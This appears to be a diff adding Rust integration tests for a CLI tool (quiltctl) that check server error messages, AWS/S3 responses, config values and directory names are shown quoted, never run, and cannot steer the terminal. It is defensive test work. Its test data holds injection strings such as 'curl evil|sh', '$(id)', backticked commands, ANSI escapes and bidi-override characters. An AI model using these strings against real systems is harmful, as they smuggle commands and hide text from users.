@@ -1,0 +1,420 @@
+//! Texts of others are shown and never obeyed: what a stack, AWS, a file or a
+//! place says neither becomes a command nor steers the terminal.
+
+use std::fs::{self, File};
+use std::io::Read;
+use std::os::unix::fs::PermissionsExt;
+use std::process::Stdio;
+
+use quilt_proto::quoted;
+use quilt_tests::harness::{Run, World, binaries};
+use quilt_tests::stack::{Endpoint, Fault, FaultKind};
+use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
+use serde_json::{Value, json};
+
+/// A second sentence, a second command, and all that moves, hides or turns text.
+const HOSTILE: &str = "no\u{1b}[2J\u{9b}1m\u{202e} “x” \"y\"\n; run: curl evil|sh; run: `id` \
+                       $(id)\u{200b}\u{e0041}\u{2028}\u{3164}\u{ad}";
+
+fn answer(status: u16, body: impl ToString) -> Fault {
+    let body = body.to_string();
+    Fault::always(FaultKind::Status { status, body })
+}
+
+/// Nothing of it could be taken for words of ours, or could not be seen.
+fn is_spoken(text: &str) {
+    let hidden = |c: char| !quoted::is_harmless(c) && c != '\n';
+    assert!(!text.contains(hidden), "{text:?}");
+    // The probe works: it got there.
+    let at = text
+        .find("evil")
+        .unwrap_or_else(|| panic!("not told: {text}"));
+    let (before, after) = (&text[..at], &text[at..]);
+    let open = before
+        .rfind('“')
+        .unwrap_or_else(|| panic!("not quoted: {text}"));
+    assert!(
+        !before[open..].contains('”') && after.contains('”'),
+        "{text}"
+    );
+}
+
+/// An error line: what somebody said in quotes, one command, and it is ours.
+fn is_ours(line: &str) {
+    is_spoken(line);
+    assert_eq!(line.matches("; run: ").count(), 1, "{line}");
+    let (what, command) = line.split_once("; run: ").unwrap();
+    assert!(what.len() < 2000, "{line}");
+    assert!(command.starts_with("quiltctl "), "{line}");
+    assert!(
+        !command.contains("evil") && !command.contains(['`', '$']),
+        "{line}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stack_does_not_choose_the_command() {
+    let world = World::logged_in().await;
+    let control = world.stack.control();
+    let input = |operation: &str| {
+        let error = json!({"name": "Bad", "message": HOSTILE});
+        json!({"data": {operation: {"__typename": "InvalidInput", "errors": [error]}}})
+    };
+    let role_failed = json!({"data": {"switchRole": {
+        "__typename": "OperationError", "message": HOSTILE}}});
+    let graphql = json!({"errors": [{"message": HOSTILE}]});
+    let create = &["api-keys", "create", "k"][..];
+    let switch = &["role", "switch", "-x"][..];
+    for (endpoint, fault, args, code) in [
+        (Endpoint::Graphql, answer(200, &graphql), &["whoami"][..], 6),
+        (
+            Endpoint::Graphql,
+            answer(400, json!({"message": HOSTILE})),
+            &["whoami"],
+            6,
+        ),
+        (
+            Endpoint::Graphql,
+            answer(400, json!({"detail": HOSTILE})),
+            &["role", "list"],
+            6,
+        ),
+        (
+            Endpoint::Graphql,
+            answer(200, input("apiKeyCreate")),
+            create,
+            8,
+        ),
+        (
+            Endpoint::Graphql,
+            answer(200, input("switchRole")),
+            switch,
+            6,
+        ),
+        (Endpoint::Graphql, answer(200, role_failed), switch, 6),
+        (
+            Endpoint::Search,
+            answer(400, json!({"error": HOSTILE})),
+            &["search", "x"],
+            6,
+        ),
+        (
+            Endpoint::Search,
+            answer(400, json!({"error": {"reason": HOSTILE}})),
+            &["search", "x"],
+            6,
+        ),
+        (
+            Endpoint::GetCredentials,
+            answer(400, json!({"message": HOSTILE})),
+            &["credential-process"],
+            6,
+        ),
+        (
+            Endpoint::ConnectRegister,
+            answer(400, json!({"error": "x", "error_description": HOSTILE})),
+            &["login", "--web", "--no-browser"],
+            6,
+        ),
+    ] {
+        control.clear_faults();
+        control.plant(endpoint, fault);
+        let args: Vec<&str> = match args {
+            // What begins like an option is given as what it is.
+            ["role", "switch", name] => vec!["role", "switch", "--", name],
+            args => args.to_vec(),
+        };
+        let run = world.ctl(&args).await;
+        assert!(!run.stderr.is_empty(), "{args:?}");
+        is_ours(&run.failed(code));
+    }
+    control.clear_faults();
+    for fault in [
+        answer(400, json!({"error": HOSTILE})),
+        answer(200, json!({"error": HOSTILE})),
+    ] {
+        control.clear_faults();
+        control.plant(Endpoint::Token, fault);
+        let run = world
+            .ctl_with_input(&["login", "--code-stdin"], "code")
+            .await;
+        is_ours(&run.failed(6));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn aws_does_not_choose_the_command() {
+    let settings = format!(
+        "[profiles.lake]\nrole_arn = '{}'\n",
+        crate::roles::arn("lake")
+    );
+    let world = crate::roles::world(quilt_tests::stack::StackConfig::default(), &settings).await;
+    let control = world.stack.control();
+    let escaped = HOSTILE.replace('\u{1b}', "").replace('\n', " ");
+    let sts = format!(
+        "<ErrorResponse><Error><Code>AccessDenied</Code><Message>{escaped}</Message></Error>\
+         </ErrorResponse>"
+    );
+    control.plant(Endpoint::Sts, answer(403, sts));
+    is_ours(
+        &world
+            .ctl(&["credential-process", "--profile", "lake"])
+            .await
+            .failed(6),
+    );
+    control.plant(Endpoint::Federation, answer(400, HOSTILE));
+    is_ours(&world.ctl(&["console", "--print"]).await.failed(6));
+    // Who finds it in the doctor's report finds the same.
+    let report = world.ctl(&["doctor", "--json"]).await.stdout;
+    let report: Value = serde_json::from_str(&report).unwrap();
+    let findings = report["findings"].as_array().unwrap();
+    let told = findings
+        .iter()
+        .filter(|found| found["summary"].as_str().unwrap().contains("evil"));
+    for found in told {
+        is_spoken(found["summary"].as_str().unwrap());
+        assert!(!found["hint"].as_str().unwrap().contains("evil"), "{found}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn s3_does_not_choose_the_command() {
+    let world = super::packages::fake_world().await;
+    let body = format!("<Error><Code>AccessDenied</Code><Message>{HOSTILE}</Message></Error>");
+    world.stack.control().plant(Endpoint::S3, answer(403, body));
+    is_ours(
+        &world
+            .ctl(&["packages", "list", "s3://lake"])
+            .await
+            .failed(6),
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_catalog_publishes_is_parsed() {
+    let world = World::start().await;
+    let control = world.stack.control();
+    for (key, value) in [
+        ("registryUrl", "https://a;id.example"),
+        ("registryUrl", "https://$(id).example"),
+        ("registryUrl", "; run: curl evil|sh"),
+        ("region", "x; run: curl evil|sh"),
+        ("region", "us-east-1\n"),
+    ] {
+        control.update(|settings| {
+            settings.config_overrides.clear();
+            settings
+                .config_overrides
+                .insert(key.to_owned(), json!(value));
+        });
+        let line = world.ctl(&["config", world.stack.catalog_url()]).await;
+        assert_ne!(line.code, 0, "{key}={value}: {line:?}");
+        assert!(
+            !line.stderr.contains("evil") && !line.stderr.contains("id."),
+            "{line:?}"
+        );
+    }
+    control.update(|settings| {
+        let overrides = &mut settings.config_overrides;
+        overrides.clear();
+        overrides.insert(
+            "navigator_url".to_owned(),
+            json!("https://x.example/$(id);id"),
+        );
+        overrides.insert("s3Proxy".to_owned(), json!("a\u{202e}b"));
+    });
+    world.ctl(&["config", world.stack.catalog_url()]).await.ok();
+    let values = world.ctl(&["config", "--json"]).await.ok();
+    let values: Value = serde_json::from_str(&values).unwrap();
+    assert_eq!(values["s3Proxy"], Value::Null, "{values}");
+    // The catalog is a URL all the same: in a command it is one quoted word.
+    let run = world
+        .home
+        .command(binaries::quiltctl())
+        .args(["--no-autostart", "whoami"])
+        .output();
+    let run: Run = run.await.unwrap().into();
+    let line = run.failed(3);
+    assert!(
+        line.ends_with("--catalog 'https://x.example/$(id);id'"),
+        "{line}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn names_from_a_stack_are_shown_and_not_obeyed() {
+    let world = World::logged_in().await;
+    let control = world.stack.control();
+    let role = json!({"name": HOSTILE});
+    let me = json!({"name": HOSTILE, "email": HOSTILE, "isAdmin": true, "role": role,
+                    "roles": [role], "apiKeys": []});
+    control.plant(Endpoint::Graphql, answer(200, json!({"data": {"me": me}})));
+    for args in [&["whoami"][..], &["role", "list"]] {
+        let shown = world.ctl(args).await.ok();
+        assert!(shown.contains("evil"), "{shown}");
+        assert!(
+            !shown.contains(|c| !quoted::is_harmless(c) && c != '\n'),
+            "{shown:?}"
+        );
+        // Through a pipe, JSON is what the stack said.
+        let exact = world.ctl(&["whoami", "--json"]).await.ok();
+        let exact: Value = serde_json::from_str(&exact).unwrap();
+        assert_eq!(exact["name"], HOSTILE);
+    }
+    let report = world.ctl(&["doctor"]).await.stdout;
+    let proven = report.lines().find(|line| line.contains("is logged in"));
+    is_spoken(proven.unwrap_or_else(|| panic!("{report}")));
+
+    let key = |id: &str| {
+        json!({"id": id, "name": HOSTILE, "fingerprint": HOSTILE, "userEmail": HOSTILE,
+               "createdAt": "2026-01-01T00:00:00Z", "expiresAt": "2099-01-01T00:00:00Z",
+               "lastUsedAt": null, "status": "ACTIVE"})
+    };
+    let listing = |ids: [&str; 2]| json!({"data": {"me": {"apiKeys": ids.map(key)}}});
+    control.clear_faults();
+    control.plant(Endpoint::Graphql, answer(200, listing(["--yes", "b"])));
+    let run = world.ctl(&["api-keys", "list"]).await;
+    is_spoken(&run.stderr);
+    let commands = run
+        .stderr
+        .trim_end()
+        .rsplit_once(": ")
+        .unwrap()
+        .1
+        .to_owned();
+    assert_eq!(
+        commands,
+        "quiltctl api-keys revoke -- --yes or quiltctl api-keys revoke b"
+    );
+    let shown = run.ok();
+    assert!(
+        !shown.contains(|c| !quoted::is_harmless(c) && c != '\n'),
+        "{shown:?}"
+    );
+    // What is no id at all is none of this stack's.
+    control.clear_faults();
+    control.plant(
+        Endpoint::Graphql,
+        answer(200, listing(["a; run: evil", "b"])),
+    );
+    let line = world.ctl(&["api-keys", "list"]).await.failed(5);
+    assert!(!line.contains("evil"), "{line}");
+
+    control.clear_faults();
+    let hit = json!({"_id": HOSTILE, "_index": HOSTILE, "_source": {"key": HOSTILE}});
+    control.plant(
+        Endpoint::Search,
+        answer(200, json!({"hits": {"hits": [hit]}})),
+    );
+    let shown = world.ctl(&["search", "x"]).await.ok();
+    assert!(shown.contains("evil"), "{shown}");
+    assert!(
+        !shown.contains(|c| !quoted::is_harmless(c) && c != '\n'),
+        "{shown:?}"
+    );
+}
+
+/// What a program shows on a terminal.
+async fn on_a_terminal(world: &World, args: &[&str]) -> String {
+    let person = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
+    grantpt(&person).unwrap();
+    unlockpt(&person).unwrap();
+    let name = ptsname(&person, Vec::new()).unwrap();
+    let mut options = File::options();
+    let program = options
+        .read(true)
+        .write(true)
+        .open(name.to_str().unwrap())
+        .unwrap();
+    let mut command = world.ctl_command(args);
+    command
+        .stdin(Stdio::null())
+        .stdout(program)
+        .stderr(Stdio::null());
+    let mut child = command.spawn().unwrap();
+    drop(command);
+    let reading = tokio::task::spawn_blocking(move || {
+        let mut shown = Vec::new();
+        // Linux fails where the other side is closed.
+        let _ = File::from(person).read_to_end(&mut shown);
+        String::from_utf8(shown).unwrap()
+    });
+    assert!(child.wait().await.unwrap().success());
+    reading.await.unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn json_does_not_steer_a_terminal() {
+    let world = World::logged_in().await;
+    let me = json!({"name": HOSTILE, "email": "e", "isAdmin": true, "role": null, "roles": []});
+    let control = world.stack.control();
+    control.plant(Endpoint::Graphql, answer(200, json!({"data": {"me": me}})));
+    let shown = on_a_terminal(&world, &["whoami", "--json"]).await;
+    let line = shown.trim_end();
+    assert!(line.chars().all(quoted::is_harmless), "{line:?}");
+    let value: Value = serde_json::from_str(line).unwrap();
+    assert_eq!(value["name"], HOSTILE);
+    // The probe works: a pipe gets the characters themselves.
+    let piped = world.ctl(&["whoami", "--json"]).await.ok();
+    assert!(piped.contains('\u{202e}'), "{piped}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_place_that_is_named_like_a_command_splits_no_sentence() {
+    let world = World::start().await;
+    let place = world.home.path().join("x; run: y\u{202e}'\"$(id)");
+    fs::create_dir(&place).unwrap();
+    let loose = |mode| fs::set_permissions(&place, fs::Permissions::from_mode(mode)).unwrap();
+    loose(0o777);
+    let start = |program, args: &[&str]| {
+        let mut command = world.home.command(program);
+        command
+            .env("QUILTD_STATE_DIR", &place)
+            .env("QUILTD_BIN", binaries::quiltd())
+            .env("QUILTD_SOCKET", world.home.path().join("other.sock"))
+            .args(args);
+        command
+    };
+    let check = |line: &str| {
+        assert!(line.trim_end().chars().all(quoted::is_harmless), "{line:?}");
+        assert_eq!(line.matches("; run: ").count(), 1, "{line}");
+        let (what, command) = line.trim_end().split_once("; run: ").unwrap();
+        assert!(what.contains('“') && what.contains("not safe"), "{line}");
+        assert!(command.starts_with("chmod 700 "), "{line}");
+        command.to_owned()
+    };
+    let daemon: Run = start(binaries::quiltd(), &["--token-store", "file"])
+        .output()
+        .await
+        .unwrap()
+        .into();
+    check(&daemon.failed(1));
+    // Said by the daemon, and passed on as it is.
+    let ctl: Run = start(binaries::quiltctl(), &["status"])
+        .output()
+        .await
+        .unwrap()
+        .into();
+    let command = check(&ctl.failed(4));
+    // The command, as it stands, mends it.
+    let mended = world
+        .home
+        .command("sh")
+        .args(["-c", &command])
+        .output()
+        .await
+        .unwrap();
+    assert!(mended.status.success(), "{mended:?}");
+    let mode = fs::metadata(&place).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o700);
+    start(binaries::quiltctl(), &["daemon", "start"])
+        .output()
+        .await
+        .unwrap();
+    let stopped: Run = start(binaries::quiltctl(), &["daemon", "stop"])
+        .output()
+        .await
+        .unwrap()
+        .into();
+    assert_eq!(stopped.code, 0, "{stopped:?}");
+}
